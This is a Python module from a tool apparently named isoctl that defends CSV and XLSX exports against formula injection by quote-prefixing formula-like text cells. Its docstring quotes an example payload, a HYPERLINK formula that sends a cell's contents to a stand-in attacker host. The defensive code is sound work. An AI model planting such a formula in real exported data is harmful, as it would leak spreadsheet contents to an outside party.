"""Spreadsheet cells that stay data: the one guard every CSV and XLSX output puts record text through.

A spreadsheet opening a CSV file evaluates a cell that starts with ``=``,
``+``, ``-`` or ``@`` as a formula, and a tab or carriage return in front
hides such a start from a quick look; a record title such as
``=HYPERLINK("http://evil.example/?"&A1, "open")`` would then run in the
auditor's spreadsheet. As the OWASP guidance on CSV injection recommends,
such a text cell gets a single quote in front, which spreadsheets show as
text. Numbers are not text: a delta of -3 written as a number stays a number.
An XLSX cell is typed as text already; :func:`formula_like` marks the same
cells there with the spreadsheet's own "quote prefix", the stored form of
that single quote, so the cell reads as written and stays text when edited.

:func:`csv_text` is the one CSV writer of isoctl: it neutralises every cell,
and quotes a row whose text holds a lone carriage return, which Python's
writer leaves bare and every spreadsheet reads as the end of the row.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any, TypeVar

#: What makes a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

T = TypeVar("T")


def formula_like(value: object) -> bool:
    """Whether ``value`` is text a spreadsheet would read as a formula (numbers never are)."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def neutral(value: T) -> T | str:
    """``value`` as a CSV cell: formula-like text gets a leading ``'``; anything else as is."""
    return "'" + value if isinstance(value, str) and formula_like(value) else value


def csv_text(rows: Iterable[Sequence[Any]]) -> str:
    """Rows (the header first) as CSV text with ``\\n`` line ends, every cell passed through :func:`neutral`."""
    out = io.StringIO()
    plain = csv.writer(out, lineterminator="\n")
    quoted = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)
    for row in rows:
        cells = [neutral(cell) for cell in row]
        writer = quoted if any(isinstance(c, str) and "\r" in c for c in cells) else plain
        writer.writerow(cells)
    return out.getvalue()
